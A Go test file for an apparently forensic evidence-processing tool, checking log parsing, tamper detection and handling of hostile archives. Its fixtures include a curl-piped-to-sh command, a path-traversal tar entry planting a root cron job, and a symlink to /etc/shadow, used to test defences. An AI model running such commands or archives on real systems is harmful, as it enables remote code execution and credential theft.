package processing_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"gocloud.dev/blob"

	"github.com/quarry-dfir/quarry"
	"github.com/quarry-dfir/quarry/blobstore"
	"github.com/quarry-dfir/quarry/collector"
	"github.com/quarry-dfir/quarry/collector/livestate"
	"github.com/quarry-dfir/quarry/processing"
	"github.com/quarry-dfir/quarry/sqldb"
	"github.com/quarry-dfir/quarry/sqldb/sqldbtest"
)

// Inputs of the collected host. Each count below is read off these lines.
const (
	// authLog: three sshd/sudo lines, each one event of the auth.log parser.
	authLog = `Mar  1 10:00:01 web-03 sshd[812]: Accepted password for alice from 203.0.113.9 port 51022 ssh2
Mar  1 10:01:15 web-03 sshd[900]: Failed password for invalid user admin from 198.51.100.23 port 40022 ssh2
Mar  1 10:02:00 web-03 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id
`
	// syslogGz: four syslog lines in a rotated, compressed file.
	syslogGz = `Feb 27 06:25:01 web-03 CRON[1201]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)
Feb 27 06:30:00 web-03 systemd[1]: Starting Daily apt upgrade and clean activities...
Feb 27 06:30:02 web-03 systemd[1]: apt-daily-upgrade.service: Succeeded.
Feb 27 07:00:00 web-03 kernel: [ 3600.000000] eth0: link up
`
	// bashHistory: two commands without timestamps.
	bashHistory = "curl -s http://203.0.113.9/x.sh | sh\nrm -f /tmp/x.sh\n"
	// rootHistory: one command with a NUL and bytes that are not UTF-8, which the store refuses
	// unless processing cleans them.
	rootHistory = "echo \x00\xff\xfe hostile\n"
	authEvents  = 3
	syslogEvts  = 4
	bashEvents  = 2 + 1
	// live state below: 2 processes, 1 socket, 1 session.
	liveEvents = 4
)

var (
	fileTime  = time.Date(2024, 3, 2, 0, 0, 0, 0, time.UTC)
	startTime = time.Date(2024, 3, 1, 8, 0, 0, 0, time.UTC)
)

func liveState(context.Context) map[string]any {
	return map[string]any{
		livestate.Processes: []livestate.Process{
			{PID: 1, Name: "systemd", CommandLine: "/sbin/init", User: "root", StartTime: startTime},
			{PID: 4242, PPID: 812, Name: "bash", CommandLine: "bash -i", User: "www-data", StartTime: startTime.Add(2 * time.Hour)},
		},
		livestate.Network: []livestate.Connection{{Proto: "tcp", LocalAddr: "10.0.0.5", LocalPort: 22, RemoteAddr: "198.51.100.23", RemotePort: 51234, State: "ESTABLISHED", PID: 812}},
		livestate.Users:   []livestate.User{{Name: "alice", Terminal: "pts/0", Host: "203.0.113.9", LoginTime: startTime.Add(time.Hour)}},
	}
}

func gz(tb testing.TB, s string) string {
	tb.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

// hostRoot writes the Linux host the tests collect from.
func hostRoot(tb testing.TB) string {
	tb.Helper()
	root := tb.TempDir()
	files := map[string]string{
		"etc/hostname":             "web-03\n",
		"etc/timezone":             "Europe/Berlin\n",
		"var/log/auth.log":         authLog,
		"var/log/syslog.2.gz":      gz(tb, syslogGz),
		"home/alice/.bash_history": bashHistory,
		"root/.bash_history":       rootHistory,
		// In a list-only target: its name and times are listed, its content is not collected.
		"tmp/.x/dropper": "\x7fELF",
		// Not a wtmp file at all: the wtmp parser refuses it, and that is reported.
		"var/log/wtmp": strings.Repeat("garbage!", 16),
	}
	for rel, data := range files {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			tb.Fatal(err)
		}
		// Access and modification times apart, so each file has at least two distinct times.
		if err := os.Chtimes(p, fileTime.Add(-time.Hour), fileTime); err != nil {
			tb.Fatal(err)
		}
	}
	return root
}

// collect runs the real collector on root into a package.
func collect(tb testing.TB, root string) ([]byte, *collector.Manifest) {
	tb.Helper()
	return collectOS(tb, root, "linux")
}

func collectOS(tb testing.TB, root, goos string) ([]byte, *collector.Manifest) {
	tb.Helper()
	var buf bytes.Buffer
	res, err := collector.Collect(context.Background(), &buf, collector.Options{Root: root, OS: goos, Profile: "triage", LiveState: liveState})
	if err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes(), res.Manifest
}

type env struct {
	t      testing.TB
	db     *sqldb.DB
	bucket *blob.Bucket
	ev     *sqldb.EvidenceService
	acq    *sqldb.AcquisitionService
	events *sqldb.EventService
	audit  *sqldb.AuditService
	proc   *processing.Processor
	pid    int64
}

func newEnv(t testing.TB, db *sqldb.DB, cfg processing.Config) *env {
	t.Helper()
	ctx := context.Background()
	u, err := blobstore.DefaultURL(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b, err := blobstore.Open(ctx, u)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.Close() })
	e := &env{t: t, db: db, bucket: b, ev: sqldb.NewEvidenceService(db), acq: sqldb.NewAcquisitionService(db),
		events: sqldb.NewEventService(db), audit: sqldb.NewAuditService(db)}
	cfg.Evidence, cfg.Acquisitions, cfg.Events, cfg.Audit, cfg.Bucket, cfg.Lock = e.ev, e.acq, e.events, e.audit, b, db.WithLock
	cfg.Archive.TempDir = t.TempDir()
	if e.proc, err = processing.New(cfg); err != nil {
		t.Fatal(err)
	}
	p := &quarry.Project{Name: "case"}
	if err := sqldb.NewProjectService(db).CreateProject(ctx, p); err != nil {
		t.Fatal(err)
	}
	e.pid = p.ID
	return e
}

// receive stores pkg as received evidence of a new manual acquisition, the way the intake does.
func (e *env) receive(pkg []byte) *quarry.Evidence {
	e.t.Helper()
	ctx := context.Background()
	a := &quarry.Acquisition{ProjectID: e.pid, HostName: "web-03.example", Source: quarry.SourceManual}
	if err := e.acq.CreateAcquisition(ctx, a); err != nil {
		e.t.Fatal(err)
	}
	for _, s := range []string{quarry.AcquisitionCollecting, quarry.AcquisitionUploading} {
		if _, err := e.acq.TransitionAcquisition(ctx, a.ID, quarry.AcquisitionTransition{State: s}); err != nil {
			e.t.Fatal(err)
		}
	}
	sum := sha256.Sum256(pkg)
	ev := &quarry.Evidence{ProjectID: e.pid, AcquisitionID: a.ID, SHA256: hex.EncodeToString(sum[:]), Size: int64(len(pkg))}
	if err := e.ev.CreateEvidence(ctx, ev, nil); err != nil {
		e.t.Fatal(err)
	}
	if err := e.bucket.WriteAll(ctx, ev.BlobKey, pkg, nil); err != nil {
		e.t.Fatal(err)
	}
	if _, err := e.acq.TransitionAcquisition(ctx, a.ID, quarry.AcquisitionTransition{State: quarry.AcquisitionReceived, EvidenceID: &ev.ID}); err != nil {
		e.t.Fatal(err)
	}
	return ev
}

func (e *env) evidence(id int64) *quarry.Evidence {
	e.t.Helper()
	ev, err := e.ev.FindEvidenceByID(context.Background(), id)
	if err != nil {
		e.t.Fatal(err)
	}
	return ev
}

func (e *env) count(evidenceID int64, sources ...string) int64 {
	e.t.Helper()
	page, err := e.events.FindEvents(context.Background(), quarry.EventFilter{ProjectID: e.pid, EvidenceID: evidenceID, Sources: sources, Limit: 1})
	if err != nil {
		e.t.Fatal(err)
	}
	return page.Total
}

// find returns the events of sources whose message contains all of words. It filters in Go, so
// that these tests do not depend on the query language.
func (e *env) find(evidenceID int64, source string, words ...string) []*quarry.Event {
	e.t.Helper()
	var out []*quarry.Event
	err := e.events.EachEvent(context.Background(), quarry.EventFilter{ProjectID: e.pid, EvidenceID: evidenceID, Sources: []string{source}}, func(ev *quarry.Event) error {
		for _, w := range words {
			if !strings.Contains(ev.Message, w) {
				return nil
			}
		}
		out = append(out, ev)
		return nil
	})
	if err != nil {
		e.t.Fatal(err)
	}
	return out
}

// distinctTimes counts the distinct file-system times of each collected file: the file events.
func distinctTimes(m *collector.Manifest) int64 {
	var n int64
	for _, f := range m.Files {
		seen := map[string]bool{}
		for _, s := range []string{f.MTime, f.ATime, f.CTime, f.BTime} {
			if t, err := time.Parse(time.RFC3339Nano, s); err == nil && t.Unix() > 0 {
				seen[t.UTC().Format(time.RFC3339Nano)] = true
			}
		}
		n += int64(len(seen))
	}
	return n
}

func TestPipeline(t *testing.T) {
	pkg, m := collect(t, hostRoot(t))
	if m.Host.Hostname != "web-03" || len(m.LiveState) != 3 {
		t.Fatalf("collector manifest: host %q, %d live documents", m.Host.Hostname, len(m.LiveState))
	}
	fileEvents := distinctTimes(m)
	sqldbtest.Dialects(t, func(t *testing.T, db *sqldb.DB) {
		ctx := context.Background()
		e := newEnv(t, db, processing.Config{BatchSize: 7}) // small batches: several InsertEvents calls
		ev := e.receive(pkg)
		if err := e.proc.Process(ctx, ev.ID); err != nil {
			t.Fatalf("Process: %v", err)
		}
		got := e.evidence(ev.ID)
		r := got.Processing
		if got.State != quarry.EvidenceProcessed || r == nil || r.Stage != quarry.StageDone || r.Error != "" || r.EndedAt == nil {
			t.Fatalf("evidence after processing: state %s, report %+v", got.State, r)
		}
		// The listing of /tmp holds /tmp/.x and /tmp/.x/dropper, each with at least two times.
		lr := r.Parsers[processing.ReportListing]
		if lr == nil || lr.Files != 1 || lr.Records != 2 || lr.Events < 4 {
			t.Fatalf("listing report %+v, want 2 entries with 2 times or more each", lr)
		}
		listed := lr.Events
		for _, c := range []struct {
			source string
			want   int64
		}{
			{"auth.log", authEvents}, {"syslog", syslogEvts}, {"bash_history", bashEvents},
			{"livestate", liveEvents},
		} {
			if n := e.count(ev.ID, c.source); n != c.want {
				t.Errorf("%s events = %d, want %d", c.source, n, c.want)
			}
			if pr := r.Parsers[c.source]; pr == nil || pr.Events != c.want {
				t.Errorf("report for %s = %+v, want %d events", c.source, pr, c.want)
			}
		}
		if pr := r.Parsers[processing.SourceFile]; pr == nil || pr.Events != fileEvents || pr.Files != len(m.Files) {
			t.Errorf("file report %+v, want %d events of %d files", pr, fileEvents, len(m.Files))
		}
		if n := e.count(ev.ID, processing.SourceFile); n != fileEvents+listed {
			t.Errorf("file events = %d, want %d of collected files + %d of listed ones", n, fileEvents, listed)
		}
		if d := e.find(ev.ID, processing.SourceFile, "/tmp/.x/dropper: M"); len(d) != 1 || !d[0].Timestamp.Equal(fileTime) ||
			d[0].Fields["listed"] != true || d[0].Path != "listings/linux.tmp_listing.jsonl" || d[0].Fields["size"] != int64(4) {
			t.Errorf("listed dropper event = %+v", d)
		}
		total := int64(authEvents+syslogEvts+bashEvents+liveEvents) + fileEvents + listed
		if n := e.count(ev.ID); n != total || r.Events != total {
			t.Errorf("events stored %d, reported %d, want %d", n, r.Events, total)
		}
		wantFiles := len(m.Files) + len(m.LiveState) + len(m.Listings)
		if r.Format != collector.Format || r.FilesTotal != wantFiles || r.FilesDone != wantFiles {
			t.Errorf("report format %q files %d/%d, want %s %d/%d", r.Format, r.FilesDone, r.FilesTotal, collector.Format, wantFiles, wantFiles)
		}
		// The only problem is the fake wtmp file.
		if r.ProblemsTotal != 1 || len(r.Problems) != 1 || r.Problems[0].Path != "files/var/log/wtmp" || r.Problems[0].Parser != "wtmp" {
			t.Errorf("problems = %d %+v, want the wtmp file", r.ProblemsTotal, r.Problems)
		}
		if pr := r.Parsers["wtmp"]; pr == nil || pr.Errors != 1 || pr.Files != 1 {
			t.Errorf("wtmp report = %+v, want one file with an error", pr)
		}

		// auth.log was written in the host's zone (Europe/Berlin, from /etc/timezone): 10:00:01 CET
		// is 09:00:01 UTC, in the year of the file's modification time.
		acc := e.find(ev.ID, "auth.log", "Accepted password")
		if len(acc) != 1 || !acc[0].Timestamp.Equal(time.Date(2024, 3, 1, 9, 0, 1, 0, time.UTC)) ||
			acc[0].Host != "web-03" || acc[0].Path != "files/var/log/auth.log" || acc[0].ProjectID != e.pid || acc[0].EvidenceID != ev.ID {
			t.Errorf("accepted-password event = %+v", acc)
		}
		// The hostile command was stored, cleaned.
		if h := e.find(ev.ID, "bash_history", "hostile"); len(h) != 1 || h[0].User != "root" ||
			strings.ContainsRune(h[0].Fields["command"].(string), 0) {
			t.Errorf("hostile history event = %+v", h)
		}
		// The rotated, compressed syslog was decompressed and read.
		if s := e.find(ev.ID, "syslog", "link up"); len(s) != 1 || s[0].Path != "files/var/log/syslog.2.gz" {
			t.Errorf("syslog event from the .gz file = %+v", s)
		}
		// A file event names the file, the time kind and the target.
		mod := e.find(ev.ID, processing.SourceFile, "/var/log/auth.log: M")
		if len(mod) != 1 || !mod[0].Timestamp.Equal(fileTime) || !strings.HasPrefix(mod[0].TimestampDesc, "Modification Time") ||
			mod[0].Fields["target"] != "linux.logs" || mod[0].Fields["size"] != int64(len(authLog)) || mod[0].Fields["sha256"] != sha256Of(authLog) {
			t.Errorf("auth.log modification event = %+v", mod)
		}
		if a := e.find(ev.ID, processing.SourceFile, "/var/log/auth.log: .A.."); len(a) != 1 || !a[0].Timestamp.Equal(fileTime.Add(-time.Hour)) || a[0].TimestampDesc != "Access Time" {
			t.Errorf("auth.log access event = %+v", a)
		}
		// Live state: the process at its start time, the socket at the collection's start.
		if p := e.find(ev.ID, "livestate", "bash -i"); len(p) != 1 || !p[0].Timestamp.Equal(startTime.Add(2*time.Hour)) || p[0].User != "www-data" {
			t.Errorf("live process event = %+v", p)
		}
		if c := e.find(ev.ID, "livestate", "198.51.100.23:51234"); len(c) != 1 || !c[0].Timestamp.Equal(m.StartedAt.Truncate(time.Microsecond)) {
			t.Errorf("live socket event = %+v (collection started %v)", c, m.StartedAt)
		}

		a, err := e.acq.FindAcquisitionByID(ctx, ev.AcquisitionID)
		if err != nil {
			t.Fatal(err)
		}
		var states []string
		for _, h := range a.History {
			states = append(states, h.State)
		}
		if a.State != quarry.AcquisitionCompleted || !slices.Contains(states, quarry.AcquisitionProcessing) {
			t.Errorf("acquisition %s, history %v; want completed through processing", a.State, states)
		}

		// A second job for the same evidence (a duplicate, or River's rescue) changes nothing.
		if err := e.proc.Process(ctx, ev.ID); err != nil {
			t.Fatal(err)
		}
		if n := e.count(ev.ID); n != total {
			t.Errorf("after a duplicate run: %d events, want %d", n, total)
		}
	})
}

// TestTamperedPackage: a file whose content no longer matches the manifest's hash is reported and
// skipped; the rest is processed.
func TestTamperedPackage(t *testing.T) {
	pkg, m := collect(t, hostRoot(t))
	tampered := rewriteEntry(t, pkg, "files/var/log/auth.log", func(b []byte) []byte {
		return bytes.Replace(b, []byte("Accepted password for alice"), []byte("Accepted password for mallo"), 1)
	})
	tampered = rewriteEntry(t, tampered, "live/processes.json", func(b []byte) []byte {
		return bytes.Replace(b, []byte(`"bash -i"`), []byte(`"bash -x"`), 1)
	})
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	ev := e.receive(tampered)
	if err := e.proc.Process(context.Background(), ev.ID); err != nil {
		t.Fatal(err)
	}
	got := e.evidence(ev.ID)
	r := got.Processing
	if got.State != quarry.EvidenceProcessed {
		t.Fatalf("state %s, report %+v", got.State, r)
	}
	for _, path := range []string{"files/var/log/auth.log", "live/processes.json"} {
		found := false
		for _, p := range r.Problems {
			found = found || (p.Path == path && strings.HasPrefix(p.Reason, "hash_mismatch"))
		}
		if !found {
			t.Errorf("problems %+v: the tampered %s is not reported", r.Problems, path)
		}
	}
	// The two processes are gone; the socket and the session remain.
	if n := e.count(ev.ID, "livestate"); n != liveEvents-2 {
		t.Errorf("livestate events = %d, want %d", n, liveEvents-2)
	}
	if n := e.count(ev.ID, "auth.log"); n != 0 {
		t.Errorf("%d auth.log events from a tampered file", n)
	}
	if n := e.count(ev.ID, "syslog"); n != syslogEvts {
		t.Errorf("syslog events = %d, want %d: the rest must still be processed", n, syslogEvts)
	}
	// The tampered file gets no file events either: nothing of it is trusted.
	rest := *m
	rest.Files = slices.DeleteFunc(slices.Clone(m.Files), func(f collector.FileEntry) bool { return f.Path == "/var/log/auth.log" })
	if len(rest.Files) != len(m.Files)-1 {
		t.Fatal("auth.log not in the manifest")
	}
	if n, want := e.count(ev.ID, processing.SourceFile)-r.Parsers[processing.ReportListing].Events, distinctTimes(&rest); n != want {
		t.Errorf("file events of collected files = %d, want %d (every file's but the tampered one's)", n, want)
	}
}

// rewriteEntry copies a zip, replacing one entry's content by edit's (of the same length).
func rewriteEntry(t *testing.T, pkg []byte, name string, edit func([]byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	done := false
	for _, f := range zr.File {
		if f.Name != name {
			if err := zw.Copy(f); err != nil {
				t.Fatal(err)
			}
			continue
		}
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		nb := edit(b)
		if len(nb) != len(b) || bytes.Equal(nb, b) {
			t.Fatal("rewriteEntry: the edit must change the content and keep its length")
		}
		h := f.FileHeader
		w, err := zw.CreateHeader(&h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(nb)
		done = true
	}
	if err := zw.Close(); err != nil || !done {
		t.Fatalf("rewriteEntry: %v (found %v)", err, done)
	}
	return out.Bytes()
}

func TestReprocess(t *testing.T) {
	pkg, _ := collect(t, hostRoot(t))
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	ev := e.receive(pkg)
	ctx := context.Background()
	if err := e.proc.Process(ctx, ev.ID); err != nil {
		t.Fatal(err)
	}
	before := e.count(ev.ID)
	// Without the job queue, Reprocess cannot queue and says so, having changed nothing.
	if err := e.proc.Reprocess(ctx, ev.ID); quarry.ErrorCode(err) != quarry.EUNAVAILABLE {
		t.Fatalf("Reprocess without a queue = %v, want EUNAVAILABLE", err)
	}
	if n := e.count(ev.ID); n != before {
		t.Fatalf("a refused Reprocess deleted events: %d, had %d", n, before)
	}
	startRunner(t, db, e.proc, false)
	actx := quarry.NewContextWithActor(ctx, &quarry.Actor{User: &quarry.User{ID: 1, Username: "ana"}})
	if err := e.proc.Reprocess(actx, ev.ID); err != nil {
		t.Fatal(err)
	}
	waitState(t, e, ev.ID, quarry.EvidenceProcessed)
	if n := e.count(ev.ID); n != before {
		t.Errorf("after Reprocess: %d events, want the same %d", n, before)
	}
	entries, _, err := e.audit.FindAuditEntries(ctx, quarry.AuditFilter{Action: "evidence.reprocess"})
	if err != nil {
		t.Fatal(err)
	}
	// Newest first: the successful request, then the refused one (audited as a failure).
	if len(entries) != 2 || entries[0].Actor != "ana" || entries[0].Outcome != quarry.OutcomeSuccess || entries[0].Details["deleted_events"] != float64(before) ||
		entries[1].Outcome != quarry.OutcomeFailure || entries[1].Actor != "system" {
		for _, en := range entries {
			t.Logf("audit entry %+v", *en)
		}
		t.Errorf("audit entries: want one success by ana and one failure")
	}
	// The acquisition finished with the first run and is completed again after the second.
	a, _ := e.acq.FindAcquisitionByID(ctx, ev.AcquisitionID)
	if a.State != quarry.AcquisitionCompleted {
		t.Errorf("acquisition %s after reprocess", a.State)
	}

	// A package whose processing failed (here: the acquisition was failed on receipt, as a
	// run that gave up does) is completed by a reprocess that succeeds, without the old error.
	ev2 := e.receive(pkg)
	if _, err := e.acq.TransitionAcquisition(ctx, ev2.AcquisitionID, quarry.AcquisitionTransition{State: quarry.AcquisitionFailed, Error: "processing: the store was away"}); err != nil {
		t.Fatal(err)
	}
	if err := e.proc.Reprocess(actx, ev2.ID); err != nil {
		t.Fatal(err)
	}
	waitState(t, e, ev2.ID, quarry.EvidenceProcessed)
	// The evidence is marked processed just before its acquisition completes.
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if a, _ = e.acq.FindAcquisitionByID(ctx, ev2.AcquisitionID); a.State != quarry.AcquisitionProcessing || time.Now().After(deadline) {
			break
		}
	}
	if a.State != quarry.AcquisitionCompleted || a.Error != "" {
		t.Errorf("failed acquisition after a successful reprocess: %s %q", a.State, a.Error)
	}
}

// TestForeignArchive: a UAC tar.gz with hostile entries goes through the same pipeline.
func TestForeignArchive(t *testing.T) {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	add := func(name, data string, typ byte, link string) {
		h := &tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: typ, Linkname: link, ModTime: fileTime}
		if typ != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(data[:h.Size]))
	}
	add("uac-web-03-linux/[root]/var/log/auth.log", authLog, tar.TypeReg, "")
	add("uac-web-03-linux/[root]/var/log/syslog.2.gz", gz(t, syslogGz), tar.TypeReg, "")
	add("uac-web-03-linux/[root]/var/log/evil", "", tar.TypeSymlink, "/etc/shadow")
	add("../../../etc/cron.d/evil", "* * * * * root sh\n", tar.TypeReg, "")
	add("uac-web-03-linux/live_response/process/ps.txt", "PID CMD\n1 init\n", tar.TypeReg, "")
	tw.Close()
	zw.Close()

	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	ev := e.receive(buf.Bytes())
	if err := e.proc.Process(context.Background(), ev.ID); err != nil {
		t.Fatal(err)
	}
	got := e.evidence(ev.ID)
	r := got.Processing
	if got.State != quarry.EvidenceProcessed || r.Format != "uac" || r.FilesTotal != 2 {
		t.Fatalf("state %s, report %+v", got.State, r)
	}
	if n := e.count(ev.ID, "auth.log"); n != authEvents {
		t.Errorf("auth.log events = %d, want %d", n, authEvents)
	}
	if n := e.count(ev.ID, "syslog"); n != syslogEvts {
		t.Errorf("syslog events = %d, want %d", n, syslogEvts)
	}
	// One modification time per file (the tar holds no other times).
	if n := e.count(ev.ID, processing.SourceFile); n != 2 {
		t.Errorf("file events = %d, want 2", n)
	}
	var reasons []string
	for _, p := range r.Problems {
		reasons = append(reasons, strings.SplitN(p.Reason, ":", 2)[0])
	}
	if !slices.Contains(reasons, "link") || !slices.Contains(reasons, "bad_name") {
		t.Errorf("problems %+v: want the symlink and the escaping name reported", r.Problems)
	}
	// The host name is the acquisition's: a foreign archive has no manifest.
	if h := e.find(ev.ID, "auth.log"); len(h) == 0 || h[0].Host != "web-03.example" {
		t.Errorf("host of foreign events = %+v", h)
	}
}

// TestUnusableEvidence: a blob that is no archive fails the evidence and the acquisition with a
// reason in words; the job itself succeeds (a retry would not help).
func TestUnusableEvidence(t *testing.T) {
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	for _, tc := range []struct {
		name string
		blob []byte
		want string
	}{
		{"NotAnArchive", []byte("this is not a package"), "neither a quarry package nor a zip or tar archive"},
		{"BrokenManifest", zipWith(t, map[string]string{"manifest.json": "{not json"}), "The package cannot be read"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ev := e.receive(tc.blob)
			if err := e.proc.Process(context.Background(), ev.ID); err != nil {
				t.Fatalf("Process = %v; a bad package is not a job error", err)
			}
			got := e.evidence(ev.ID)
			if got.State != quarry.EvidenceFailed || !strings.Contains(got.Processing.Error, tc.want) {
				t.Errorf("state %s, error %q; want failed with %q", got.State, got.Processing.Error, tc.want)
			}
			a, _ := e.acq.FindAcquisitionByID(context.Background(), ev.AcquisitionID)
			if a.State != quarry.AcquisitionFailed || !strings.Contains(a.Error, tc.want) {
				t.Errorf("acquisition %s %q", a.State, a.Error)
			}
		})
	}
}

func zipWith(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for n, d := range files {
		w, _ := zw.Create(n)
		w.Write([]byte(d))
	}
	zw.Close()
	return buf.Bytes()
}

// recorder records every report update, to check the stages and the progress a run shows.
type recorder struct {
	quarry.EvidenceService
	updates []update
}

type update struct {
	state, stage          string
	filesDone, filesTotal int
	events                int64
}

func (r *recorder) UpdateEvidenceProcessing(ctx context.Context, id int64, state string, rep *quarry.ProcessingReport) error {
	r.updates = append(r.updates, update{state, rep.Stage, rep.FilesDone, rep.FilesTotal, rep.Events})
	return r.EvidenceService.UpdateEvidenceProcessing(ctx, id, state, rep)
}

func TestProgress(t *testing.T) {
	pkg, m := collect(t, hostRoot(t))
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	rec := &recorder{EvidenceService: e.ev}
	// A clock that moves a second per reading: every file's progress check writes the report.
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	clock := func() time.Time { now = now.Add(time.Second); return now }
	proc, err := processing.New(processing.Config{Evidence: rec, Acquisitions: e.acq, Events: e.events, Bucket: e.bucket, Now: clock, BatchSize: 5})
	if err != nil {
		t.Fatal(err)
	}
	ev := e.receive(pkg)
	if err := proc.Process(context.Background(), ev.ID); err != nil {
		t.Fatal(err)
	}
	u := rec.updates
	if len(u) < 4 || u[0].state != quarry.EvidenceProcessing || u[0].stage != quarry.StageOpening ||
		u[len(u)-1].state != quarry.EvidenceProcessed || u[len(u)-1].stage != quarry.StageDone {
		t.Fatalf("updates %+v: want opening first and done last", u)
	}
	stages := []string{}
	for i, x := range u {
		if len(stages) == 0 || stages[len(stages)-1] != x.stage {
			stages = append(stages, x.stage)
		}
		if i > 0 && (x.filesDone < u[i-1].filesDone || x.events < u[i-1].events) {
			t.Errorf("progress went backwards: %+v after %+v", x, u[i-1])
		}
	}
	if want := []string{quarry.StageOpening, quarry.StageVerifying, quarry.StageParsing, quarry.StageDone}; !slices.Equal(stages, want) {
		t.Errorf("stages %v, want %v", stages, want)
	}
	total := len(m.Files) + len(m.LiveState)
	mid := 0
	for _, x := range u {
		if x.stage == quarry.StageParsing && x.filesDone > 0 && x.filesDone < total {
			mid++
		}
	}
	if mid < total/2 {
		t.Errorf("%d progress updates while parsing %d files, want one per file or so: %+v", mid, total, u)
	}
}

// TestGzCap: a rotated log that decompresses past the limit is read up to it and reported.
func TestGzCap(t *testing.T) {
	var lines strings.Builder
	for i := range 200 {
		lines.WriteString(fmt.Sprintf("Feb 27 06:%02d:%02d web-03 cron[1]: line %d\n", i/60, i%60, i))
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	data := gz(t, lines.String())
	tw.WriteHeader(&tar.Header{Name: "[root]/var/log/syslog.3.gz", Mode: 0o644, Size: int64(len(data)), ModTime: fileTime})
	tw.Write([]byte(data))
	tw.Close()
	zw.Close()

	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{MaxGzSize: 2000})
	ev := e.receive(buf.Bytes())
	if err := e.proc.Process(context.Background(), ev.ID); err != nil {
		t.Fatal(err)
	}
	r := e.evidence(ev.ID).Processing
	n := e.count(ev.ID, "syslog")
	if n == 0 || n >= 200 {
		t.Errorf("syslog events = %d: want the lines within the first 2000 bytes only", n)
	}
	if pr := r.Parsers["syslog"]; len(r.Problems) != 1 || !strings.Contains(r.Problems[0].Reason, "decompressed past 2000 bytes") || pr == nil || pr.Errors != 1 {
		t.Errorf("problems %+v, syslog report %+v", r.Problems, r.Parsers["syslog"])
	}
}

// TestNotStoredYet: evidence whose acquisition is still uploading (the intake writes the row
// before the package) is neither processed nor reprocessed.
func TestNotStoredYet(t *testing.T) {
	db := sqldbtest.Open(t, sqldb.DialectSQLite)
	e := newEnv(t, db, processing.Config{})
	startRunner(t, db, e.proc, true)
	ctx := context.Background()
	a := &quarry.Acquisition{ProjectID: e.pid, HostName: "h", Source: quarry.SourceManual}
	if err := e.acq.CreateAcquisition(ctx, a); err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{quarry.AcquisitionCollecting, quarry.AcquisitionUploading} {
		if _, err := e.acq.TransitionAcquisition(ctx, a.ID, quarry.AcquisitionTransition{State: s}); err != nil {
			t.Fatal(err)
		}
	}
	ev := &quarry.Evidence{ProjectID: e.pid, AcquisitionID: a.ID, SHA256: strings.Repeat("a", 64)}
	if err := e.ev.CreateEvidence(ctx, ev, nil); err != nil {
		t.Fatal(err)
	}
	if err := e.proc.Process(ctx, ev.ID); err != nil {
		t.Fatal(err)
	}
	if got := e.evidence(ev.ID); got.State != quarry.EvidenceReceived || got.Processing != nil {
		t.Errorf("evidence %s %+v after an early job; want it untouched", got.State, got.Processing)
	}
	if got, _ := e.acq.FindAcquisitionByID(ctx, a.ID); got.State != quarry.AcquisitionUploading {
		t.Errorf("acquisition %s after an early job; want uploading", got.State)
	}
	if err := e.proc.Reprocess(ctx, ev.ID); quarry.ErrorCode(err) != quarry.ECONFLICT {
		t.Errorf("Reprocess while uploading = %v, want ECONFLICT", err)
	}
}

// TestConcurrentRuns: two jobs for one evidence item at once (River rescuing a long run) do not
// write its events twice.
func TestConcurrentRuns(t *testing.T) {
	pkg, _ := collect(t, hostRoot(t))
	sqldbtest.Dialects(t, func(t *testing.T, db *sqldb.DB) {
		e := newEnv(t, db, processing.Config{BatchSize: 3})
		once := e.receive(pkg)
		if err := e.proc.Process(context.Background(), once.ID); err != nil {
			t.Fatal(err)
		}
		want := e.count(once.ID)
		ev := e.receive(pkg)
		errs := make(chan error, 2)
		for range 2 {
			go func() { errs <- e.proc.Process(context.Background(), ev.ID) }()
		}
		for range 2 {
			if err := <-errs; err != nil {
				t.Fatal(err)
			}
		}
		if n := e.count(ev.ID); n != want {
			t.Errorf("two concurrent runs stored %d events, one run %d", n, want)
		}
	})
}

// picky is the real store, refusing (EINVALID) any batch with an event whose message holds a word.
type picky struct {
	quarry.EventService
	word string
}

func (p picky) InsertEvents(ctx context.Context, evs []*quarry.Event) error {
	for _, ev := range evs {
		if strings.Contains(ev.Message, p.word) {
			return quarry.FieldError("fields", "This event is not storable.")
		}
	}
	return p.EventService.InsertEvents(ctx, evs)
}

